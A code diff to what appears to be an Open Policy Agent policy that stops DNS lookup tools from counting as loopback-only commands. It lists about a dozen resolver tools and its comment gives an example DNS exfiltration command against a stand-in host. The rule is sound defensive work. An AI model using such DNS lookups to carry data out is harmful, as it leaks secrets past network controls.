@@ -85,7 +85,13 @@ loopback_only(c) if {
 	not remote_address(c)
 	not other_target(c)
 	not proxied(c)
+	not dns_lookup_tools[c.name]
 }
+
+# A DNS server on this machine (127.0.0.53, a dnsmasq on 127.0.0.1) asks
+# the name's own servers in turn: a lookup through it carries the name
+# away (nslookup $DATA.evil.example 127.0.0.1).
+dns_lookup_tools := {"nslookup", "dig", "host", "drill", "kdig", "delv", "dnsget", "adnshost", "resolvectl", "doggo", "dog", "q"}
 
 # For URL clients every argument that is neither an option nor an option's
 # value is a URL (curl takes "evil" for http://evil/): each must be this
